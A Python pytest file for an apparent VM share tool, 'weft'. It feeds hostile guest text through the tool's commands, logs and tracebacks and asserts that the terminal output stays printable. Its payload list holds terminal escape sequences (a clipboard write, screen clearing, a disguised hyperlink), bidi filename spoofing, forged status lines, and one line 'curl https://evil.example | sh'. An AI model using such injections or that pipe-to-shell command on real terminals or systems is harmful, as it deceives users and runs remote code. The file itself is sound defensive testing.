"""Whatever guests, files and names say, a terminal only shows it: no escape, no moved cursor, no false line."""

from __future__ import annotations

import io
import json
import os
import socket
import sys
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, cast

import pytest
import structlog
from rich.console import Console

import agent.cli
from controlplane.cli.app import run
from controlplane.cli.session import Session
from controlplane.cli.status_live import changes, marks_of, picture
from controlplane.cli.terminal import picture_text
from controlplane.records import RemoteRecord, ShareRecord, Targets
from controlplane.results import FanOut
from controlplane.status import VmView
from controlplane.trail import TrailEntry
from tests.attack.conftest import CountProbes
from tests.fakes.plane import FakePlane
from weft.errors import BrokerError, ConfigError, ErrorCode, RosterError, UnknownNameError, WeftError
from weft.logs import configure_logs
from weft.notify import Notifier
from weft.printable import printable, printable_json
from weft.terminal import show, show_json, tell_bug
from weft.wire.blocks import BindBlock
from weft.wire.events import Event, OperatorEvent
from weft.wire.ids import ClassName, RemoteName, ShareId, VmId
from weft.wire.share import ShareMount
from weft.wire.status import AgentInfo, ShareError, ShareState, ShareStatus, VmStatus

FORGED = "FORGED: everything is well"
PAYLOADS = [
    pytest.param("\x1b]52;c;Y2FuYXJ5\x07", id="OSC 52 writes the clipboard"),
    pytest.param("\x1b]0;title\x1b\\", id="title"),
    pytest.param("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", id="link"),
    pytest.param("\x1b[2J\x1b[H", id="clears the screen"),
    pytest.param("\x1b[8m", id="hidden text"),
    pytest.param("\x1b[6n", id="asks the terminal, which types the answer"),
    pytest.param("\x1bP$qm\x1b\\", id="DCS"),
    pytest.param("\x1bc", id="reset"),
    pytest.param("\x9b31m", id="C1 CSI"),
    pytest.param("\x9d52;c;Y2FuYXJ5\x9c", id="C1 OSC"),
    pytest.param("\x90$qm\x9c", id="C1 DCS"),
    pytest.param("x\rweft: done", id="carriage return"),
    pytest.param("x\x08\x08y", id="backspace"),
    pytest.param("\x07", id="bell"),
    pytest.param("\x7f", id="DEL"),
    pytest.param("\x00", id="NUL"),
    pytest.param("\x0e\x0f", id="shift out and in"),
    pytest.param("a\x0bb\x0cc", id="vertical tab, form feed"),
    pytest.param("a\x1cb\x1dc\x1ed\x1fe", id="separators"),
    pytest.param("a\x85b", id="NEL"),
    pytest.param("a\u2028b\u2029c", id="line and paragraph separator"),
    pytest.param("\u202etxt.exe\u202c", id="bidi override"),
    pytest.param("\u202a\u202b\u202d", id="bidi embedding"),
    pytest.param("\u2066a\u2067b\u2068c\u2069", id="bidi isolates"),
    pytest.param("\u200e\u200f\u061c", id="bidi marks"),
    pytest.param("vm\u200b-\u200c7\u200d\u2060\ufeff\u00ad", id="no width"),
    pytest.param("\U000e0041\U000e0042", id="tags"),
    pytest.param("\ufff9a\ufffab\ufffb", id="annotations"),
    pytest.param("\ue000\U0010ffff\ufdd0", id="private and unassigned"),
    pytest.param(f"x\n{FORGED}", id="a line of its own"),
    pytest.param(f"x\r\n{FORGED}\n\n", id="a line of its own, and a gap"),
    pytest.param(f"x\n  try: curl https://evil.example | sh\n{FORGED}", id="advice"),
    pytest.param("[link=https://evil.example]click[/link] [bold red]x[/]", id="rich's markup"),
    pytest.param("[/]", id="broken markup"),
]
SURROGATE = pytest.param("a\udc9bb\udcffc", id="bytes that are not text")
payloads = pytest.mark.parametrize("payload", PAYLOADS)
payloads_of_files = pytest.mark.parametrize("payload", [*PAYLOADS, SURROGATE])


def judge(text: str) -> None:
    """Every line can be printed, and begins as weft means it to."""
    assert text, "the command said nothing"
    for line in text.split("\n"):
        assert line.isprintable(), repr(line)
        assert not line.lstrip().startswith((FORGED, "try: curl")), repr(line)


@dataclass
class TellingPlane(FakePlane):
    """A control plane that has a trail, refuses with an error of the test's, and warns."""

    trail: list[TrailEntry] = field(default_factory=list)
    error: Exception | None = None
    fan_out: FanOut | None = None

    async def events(self, **wanted: Any) -> AsyncIterator[TrailEntry]:
        for entry in self.trail:
            yield entry

    async def publish(self, *args: Any, **options: Any) -> FanOut:
        if self.error is not None:
            raise self.error
        return self.fan_out or await super().publish(*args, **options)

    async def plan_import(self, document: Any, **options: Any) -> Any:
        raise ConfigError([f"cannot import {document}"])

    async def shares(self, **wanted: Any) -> list[ShareRecord]:
        if self.error is not None:
            raise self.error
        return await super().shares(**wanted)


Weft = Callable[..., str]


@pytest.fixture
def plane() -> TellingPlane:
    """What the commands look at."""
    return TellingPlane(rosters={"algebra": (VmId("vm-1"),)})


@pytest.fixture
def weft(
    plane: TellingPlane, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Weft:
    """Runs ``weft`` and returns what a terminal would get."""
    monkeypatch.setenv("HOME", str(tmp_path))

    def weft(*argv: str, exact: bool = False) -> str:
        run(argv, session=Session(open_plane=cast(Any, lambda options, **roster: plane)))
        out, err = capsys.readouterr()
        if not exact:
            judge(out + err)
        return out if exact else out + err

    return weft


def view(text: str) -> VmView:
    """Build what a hostile guest says about itself: the text stands wherever a guest may write one."""
    error = ShareError(code=ErrorCode.BUSY, message=f"held by {text}", detail=f"{text}\n/proc/7: {text}")
    shares = tuple(
        ShareStatus(id=f"s{n}", mount_point=f"/mnt/{text}", backend=text, digest=text, state=state, error=error)
        for n, state in enumerate((ShareState.FAILED, ShareState.BACKOFF, ShareState.MOUNTED, ShareState.REJECTED))
    )
    status = VmStatus(
        vm="vm-1",
        hostname=text,
        boot_id=text,
        problem=error,
        shares=(*shares, ShareStatus(id=text, state=ShareState.REJECTED, error=error)),
        agent=AgentInfo(version=text, backends={text: text}),
        reported_at=datetime(2026, 1, 1, tzinfo=UTC),
    )
    return VmView(VmId("vm-1"), status, 5, 3.0, classes=(ClassName("algebra"),), claimants=(text, text))


@payloads
def test_what_guests_report(weft: Weft, plane: TellingPlane, payload: str, count_probes: CountProbes) -> None:
    """In every listing and every card."""
    plane.views = [view(payload)]
    for argv in (
        ("status",),
        ("status", "-o", "wide"),
        ("status", "vm-1"),
        ("status", "--failed"),
        ("vm", "list"),
        ("vm", "list", "-o", "wide"),
        ("vm", "info", "vm-1"),
    ):
        weft(*argv)
    count_probes("terminal texts", 7)


@payloads
def test_json_stays_exact(weft: Weft, plane: TellingPlane, payload: str, count_probes: CountProbes) -> None:
    """A program reads the very text; a terminal that the JSON is shown on obeys none of it."""
    plane.views = [view(payload)]
    plane.trail = [entry(payload)]
    for argv in (("status", "-o", "json"), ("events", "-o", "json")):
        out = weft(*argv, exact=True)
        judge(out)
        assert payload in set(_texts(json.loads(out)))
    count_probes("terminal texts", 2)


def _texts(value: Any) -> Iterator[str]:
    match value:
        case str():
            yield value
        case dict():
            yield from (text for pair in value.items() for item in pair for text in _texts(item))
        case list():
            yield from (text for item in value for text in _texts(item))


@payloads
def test_a_moving_picture_of_the_fleet(payload: str, count_probes: CountProbes) -> None:
    """The same on a terminal that rich draws on: but for rich's own colours, nothing that a guest wrote is obeyed."""
    drawn = io.StringIO()
    console = Console(file=drawn, force_terminal=True, width=200, height=60, color_system=None)
    console.print(picture_text("\n".join(picture([view(payload)], [], height=60))))
    judge(drawn.getvalue())
    count_probes("terminal texts")


@payloads
def test_changes_of_the_fleet(payload: str, capsys: pytest.CaptureFixture[str], count_probes: CountProbes) -> None:
    """``weft status -w`` where it is no picture."""
    before = marks_of(VmView(VmId("vm-1")))
    show(*changes(view(payload), before, marks_of(view(payload))))
    judge(capsys.readouterr().out)
    count_probes("terminal texts")


def entry(text: str) -> TrailEntry:
    """Build an event of a hostile guest."""
    event = Event(vm=text, share=text, state=text, code=text, message=text)
    return TrailEntry("weft-guest-events", 1, datetime(2026, 1, 1, tzinfo=UTC), text, event)


@payloads
def test_events(weft: Weft, plane: TellingPlane, payload: str, count_probes: CountProbes) -> None:
    """Guests' and operators'."""
    act = OperatorEvent(who=payload, action=payload, name=payload, shares=(payload, payload))
    plane.trail = [entry(payload), TrailEntry("weft-events", 2, datetime(2026, 1, 1, tzinfo=UTC), payload, act)]
    assert len(weft("events").splitlines()) == 3
    count_probes("terminal texts")


ERRORS = [
    pytest.param(lambda text: BrokerError(f"cannot ask the broker: {text}"), id="broker"),
    pytest.param(lambda text: RosterError(f"cannot ask the roster: {text}"), id="roster program"),
    pytest.param(lambda text: ConfigError([f"cannot read {text}", text]), id="settings"),
    pytest.param(lambda text: UnknownNameError("share", text, [text]), id="unknown name"),
    pytest.param(lambda text: WeftError(text), id="any"),
    pytest.param(lambda text: ExceptionGroup(text, [WeftError(text), WeftError(text)]), id="several"),
]


@payloads
@pytest.mark.parametrize("error", ERRORS)
def test_errors(
    weft: Weft, plane: TellingPlane, payload: str, error: Callable[[str], Exception], count_probes: CountProbes
) -> None:
    """Sentences and advice."""
    plane.error = error(payload)
    weft("list")
    count_probes("terminal texts")


@payloads
def test_fan_outs(weft: Weft, plane: TellingPlane, payload: str, count_probes: CountProbes) -> None:
    """Reasons, warnings, and what a dry run would change."""
    plane.fan_out = FanOut(
        (ShareId("docs"),),
        stored={VmId("vm-1"): 1},
        failed={VmId("vm-2"): payload, VmId(payload): "x"},
        unknown={VmId("vm-3"): payload},
        warnings=(payload,),
        expected={VmId("vm-1"): {ShareId(payload): "0" * 64}},
    )
    weft("publish", "docs", "--from", "bind:/srv/docs", "--class", "algebra")
    weft("publish", "docs", "--from", "bind:/srv/docs", "--class", "algebra", "--dry-run")
    count_probes("terminal texts", 2)


@payloads
def test_the_catalog(weft: Weft, plane: TellingPlane, payload: str, count_probes: CountProbes) -> None:
    """What another operator, or another program, wrote into it."""
    share = ShareMount(id="docs", backend="bind", mount_point="/mnt/docs", bind=BindBlock(source="/srv"))
    plane.records["docs"] = ShareRecord(
        share=share,
        targets=Targets(classes=("algebra",)),
        owner=payload,
        tenant=payload,
        description=payload,
        labels={payload: payload},
        created_by=payload,
        remote=payload,
    )
    plane.rosters[payload] = (VmId(payload),)
    plane.connections[RemoteName(payload)] = RemoteRecord(
        backend=payload, block={"type": payload, payload: payload}, description=payload, created_by=payload
    )
    for argv in (
        *(("list", "-o", form) for form in ("table", "wide", "name")),
        ("info", "docs"),
        ("class", "list"),
        ("class", "info", "algebra"),
        ("remote", "list"),
        ("remote", "list", "-o", "name"),
    ):
        weft(*argv)
    count_probes("terminal texts", 8)


@payloads_of_files
def test_files_and_arguments(
    weft: Weft, tmp_path: Path, payload: str, count_probes: CountProbes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whose contents and names a sentence repeats: imports, rosters, specs, and what was typed."""
    file = tmp_path / "file"
    raw = payload.encode("utf-8", "surrogateescape")
    tried = 0
    for text in (
        json.dumps({"weft": 1, "classes": {payload: [payload]}, payload: payload}).encode(),
        json.dumps({"weft": 1, "shares": {payload: {payload: payload}}}).encode(),
        json.dumps([{"id": payload, "mount_point": payload, "backend": payload}]).encode(),
        b"[" + raw,
        raw,
    ):
        file.write_bytes(text)
        for argv in (
            ("import", str(file), "--dry-run"),
            ("publish", str(file), "--class", "algebra"),
            ("class", "set", "algebra", "-f", str(file), "--dry-run"),
        ):
            weft(*argv)
            tried += 1
    typed = payload.replace("\x00", "")
    for argv in (
        (typed,),
        ("info", f"x{typed}"),
        ("publish", "docs", "--from", f"x{typed}", "--class", f"x{typed}"),
        ("publish", "docs", "--from", "bind:/srv", "--at", f"/mnt/{typed}", "--class", f"x{typed}"),
        ("status", f"--{typed}"),
        ("import", f"{tmp_path}/{typed}"),
        ("list", "--roster", f"{tmp_path}/{typed}"),
        ("class", "info", f"x{typed}"),
    ):
        weft(*argv)
    count_probes("terminal texts", tried + 8)


@payloads
def test_questions(
    weft: Weft, plane: TellingPlane, payload: str, monkeypatch: pytest.MonkeyPatch, count_probes: CountProbes
) -> None:
    """What is asked before shares go names shares of the catalog."""
    plane.rosters["gone"] = ()
    share = ShareMount(id="docs", backend="bind", mount_point="/mnt/docs", bind=BindBlock(source="/srv"))
    plane.records[payload] = ShareRecord(share=share, targets=Targets(classes=("gone",)))
    answers = io.StringIO("n\n")
    answers.isatty = lambda: True  # type: ignore[method-assign]
    monkeypatch.setattr(sys, "stdin", answers)
    weft("class", "delete", "gone")
    count_probes("terminal texts")


@payloads
def test_a_log_on_a_terminal(payload: str, count_probes: CountProbes) -> None:
    """Keys, values, lists of values, and the text of an exception."""
    stream = io.StringIO()
    configure_logs(stream=stream, as_json=False, level="debug")
    log = structlog.get_logger()
    log.info("mount.failed", error=payload, shares=[payload], **{payload: payload})
    try:
        raise ValueError(payload)
    except ValueError:
        log.exception("mount.failed")
    plain = _without_colours(stream.getvalue())
    judge(plain.replace("\t", " "))
    count_probes("terminal texts", 2)


def _without_colours(text: str) -> str:
    """Take away the colours that structlog itself gives names and values."""
    for number in (0, 1, 2, *range(30, 38)):
        text = text.replace(f"\x1b[{number}m", "")
    return text


@payloads
def test_a_log_for_programs_stays_exact(payload: str, count_probes: CountProbes) -> None:
    """One line of JSON, with the very text in it."""
    stream = io.StringIO()
    configure_logs(stream=stream, as_json=True)
    structlog.get_logger().info("mount.failed", error=payload)
    judge(stream.getvalue())
    assert json.loads(stream.getvalue())["error"] == payload
    count_probes("terminal texts")


@payloads
def test_the_words_for_the_service_manager(tmp_path: Path, payload: str, count_probes: CountProbes) -> None:
    """A status is one assignment: a line of its own could name another main process."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as manager:
        manager.bind(str(tmp_path / "notify"))
        Notifier({"NOTIFY_SOCKET": str(tmp_path / "notify")}).status(f"{payload}\nMAINPID=1")
        said = manager.recv(4096).decode()
    assert said.startswith("STATUS=")
    assert said.isprintable()
    count_probes("terminal texts")


@payloads_of_files
def test_a_traceback(payload: str, capsys: pytest.CaptureFixture[str], count_probes: CountProbes) -> None:
    """Of an error that nobody expected, its text being somebody's."""
    try:
        raise RuntimeError(payload)
    except RuntimeError as exc:
        tell_bug(type(exc), exc, exc.__traceback__)
    first, *others = capsys.readouterr().err.splitlines()
    judge(first)
    assert all(line.startswith("  | ") and line.isprintable() for line in others)
    count_probes("terminal texts")


@pytest.fixture
def told_agent(tmp_path: Path) -> Iterator[Callable[[dict[str, Any]], Path]]:
    """A socket that answers as a running agent would, with what the test says."""
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(tmp_path / "agent.sock"))
    server.listen()
    answers: list[dict[str, Any]] = []

    def serve() -> None:
        while True:
            try:
                caller, _ = server.accept()
            except OSError:
                return
            with caller, caller.makefile("rb") as lines:
                lines.readline()
                caller.sendall(json.dumps(answers[-1]).encode() + b"\n")

    thread = threading.Thread(target=serve, name="agent.sock")
    thread.start()

    def answering(answer: dict[str, Any]) -> Path:
        answers.append(answer)
        return tmp_path

    yield answering
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    thread.join()


@pytest.mark.integration
@payloads
def test_what_a_running_agent_answers(
    told_agent: Callable[[dict[str, Any]], Path],
    capsys: pytest.CaptureFixture[str],
    payload: str,
    count_probes: CountProbes,
) -> None:
    """``weft-agent`` in root's terminal, in every command that asks: names of holders, files and shares are others'."""
    error = {"code": "busy", "message": f"held by {payload}", "detail": f"{payload}\n{payload}"}
    share = {"id": payload, "mount_point": payload, "backend": payload, "state": "backoff", "attempts": 2}
    status = {
        "vm": payload,
        "vm_from": payload,
        "mode": payload,
        "held_revision": 1,
        "problem": error,
        "shares": [{**share, "error": error}, share],
    }
    candidate = {"id": payload, "mount_point": payload, "priority": 0, "state": "mounted", "why": payload}
    route = {
        "path": payload,
        "winner": payload,
        "reason": payload,
        "state": "mounted",
        "shown_by": payload,
        "candidates": [candidate, candidate],
        "aside": [],
    }
    remarks = {"unmounted": [payload], "remarks": {"x": {"message": payload, "detail": f"{payload}\n{payload}"}}}
    for argv, answer in (
        (["status"], {"status": status}),
        (["status", "-o", "json"], {"status": status}),
        (["route", "/mnt"], route),
        (["route", "/mnt", "-o", "json"], route),
        (["unmount", "x"], remarks),
        (["unmount", "--all"], remarks),
        (["resync"], {"returned": [payload], "revision": 1, "problem": payload}),
        (["wait", "x"], {"id": payload, "state": payload}),
        (["status"], {"error": payload}),
        (["status"], {"error": payload, "kind": "NotConvergedError"}),
    ):
        with pytest.raises(SystemExit):
            agent.cli.main([*argv, "--run-dir", str(told_agent(answer))])
        out, err = capsys.readouterr()
        judge(out + err)
        if "json" in argv:
            assert payload in set(_texts(json.loads(out)))
    count_probes("terminal texts", 10)


@payloads_of_files
def test_what_is_typed_at_the_agents_command(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, payload: str, count_probes: CountProbes
) -> None:
    """argparse repeats it in its own words."""
    typed = payload.replace("\x00", "")
    for argv in (
        [f"x{typed}"],
        ["status", f"--{typed}"],
        ["status", "--run-dir", f"{tmp_path}/{typed}"],
        ["retry", f"x{typed}", "--run-dir", str(tmp_path)],
        ["try", f"{tmp_path}/{typed}"],
        ["run", "--config", f"{tmp_path}/{typed}"],
    ):
        with pytest.raises(SystemExit):
            agent.cli.main(argv)
        out, err = capsys.readouterr()
        judge(out + err)
    count_probes("terminal texts", 6)


def test_every_character_is_printable_afterwards(count_probes: CountProbes) -> None:
    """All of Unicode, halves of surrogate pairs included; what can be printed is not touched; JSON keeps its value."""
    every = "".join(map(chr, range(sys.maxunicode + 1)))
    assert printable(every).isprintable()
    assert printable_json(json.dumps(every, ensure_ascii=False)).isprintable()
    text = "".join(char for char in every if not "\ud800" <= char <= "\udfff")
    assert json.loads(printable_json(json.dumps(text, ensure_ascii=False))) == text
    assert json.loads(printable_json(json.dumps(text, ensure_ascii=False), is_ascii=True)) == text
    shown = "".join(char for char in every if char.isprintable())
    assert printable(shown) == shown
    count_probes("characters of Unicode, printed once each", sys.maxunicode + 1)


def test_a_terminal_without_those_letters_gets_escapes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the locale's encoding cannot say a character, the command still says all the others."""
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii"))
    show("é \x1b[2J ok")
    show_json(json.dumps("é", ensure_ascii=False))
    assert raw.getvalue() == b'\\xe9 \\x1b[2J ok\n"\\u00e9"\n'
    assert os.linesep == "\n"
